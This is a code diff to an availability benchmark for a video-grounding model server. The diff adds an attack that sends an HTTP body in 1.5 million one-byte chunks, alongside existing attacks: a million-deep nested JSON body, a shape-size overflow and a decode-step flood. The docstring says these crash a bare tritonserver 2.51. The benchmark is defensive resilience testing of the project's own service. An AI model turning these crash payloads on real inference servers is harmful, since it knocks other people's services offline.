@@ -4,9 +4,10 @@ cached video and a new one) while the attack repeats, and the share answered.
 
     python benchmarks/availability.py [--seconds 30] [--out availability.json]
 
-Attacks: `none` (baseline); `overflow`: a direct call to the grounding step whose shape's byte size overflows to 0
-(crashes its python stub before any model code); `decode-flood`: 16 direct decode-step calls kept in flight;
-`http-nesting`: an HTTP inference body nested a million levels deep (kills tritonserver 2.51).
+Attacks, each sent to the public ports: `none` (baseline); `overflow`: a direct call to the grounding step whose
+shape's byte size overflows to 0 (crashes a bare tritonserver 2.51's python stub before any model code);
+`decode-flood`: 16 direct decode-step calls kept in flight; `http-nesting`: an HTTP inference body nested a million
+levels deep; `http-chunks`: an HTTP body in 1.5 million one-byte chunks (either kills a bare tritonserver 2.51).
 """
 
 from __future__ import annotations
@@ -31,7 +32,7 @@ from videoitg.defaults import sample_video  # noqa: E402
 from videoitg.serving.client import RemoteError, VideoITGClient  # noqa: E402
 from videoitg.serving.ports import free_port  # noqa: E402
 
-ATTACKS = ("none", "overflow", "decode-flood", "http-nesting")
+ATTACKS = ("none", "overflow", "decode-flood", "http-nesting", "http-chunks")
 
 
 def overflow(grpc_url: str, stop: threading.Event) -> int:
@@ -84,15 +85,19 @@ def decode_flood(grpc_url: str, stop: threading.Event, video: bytes, width: int 
     return sent
 
 
-def http_nesting(http_url: str, stop: threading.Event) -> int:
+def http_nesting(http_url: str, stop: threading.Event, chunked: bool = False) -> int:
     host, port = http_url.rsplit(":", 1)
-    body = b'{"inputs":' + b"[" * 1_000_000
+    head = b"POST /v2/models/videoitg/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+    if chunked:
+        request = head + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\n[\r\n" * 1_500_000 + b"0\r\n\r\n"
+    else:
+        body = b'{"inputs":' + b"[" * 1_000_000
+        request = head + b"Content-Length: %d\r\n\r\n" % len(body) + body
     sent = 0
     while not stop.is_set():
         try:
-            with socket.create_connection((host, int(port)), timeout=5) as s:
-                s.sendall(b"POST /v2/models/videoitg/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
-                          b"Content-Length: %d\r\n\r\n" % len(body) + body)
+            with socket.create_connection((host, int(port)), timeout=30) as s:
+                s.sendall(request)
                 s.recv(100)
             sent += 1
         except OSError:
@@ -160,7 +165,8 @@ def main() -> int:
             count: list[int] = []
             attacker = {"overflow": (overflow, (grpc_url, stop)),
                         "decode-flood": (decode_flood, (grpc_url, stop, flood_clip)),
-                        "http-nesting": (http_nesting, (http_url, stop))}.get(attack)
+                        "http-nesting": (http_nesting, (http_url, stop)),
+                        "http-chunks": (http_nesting, (http_url, stop, True))}.get(attack)
             t = None
             if attacker:
                 t = threading.Thread(target=lambda fn, a, out: out.append(fn(*a)), args=(*attacker, count), daemon=True)
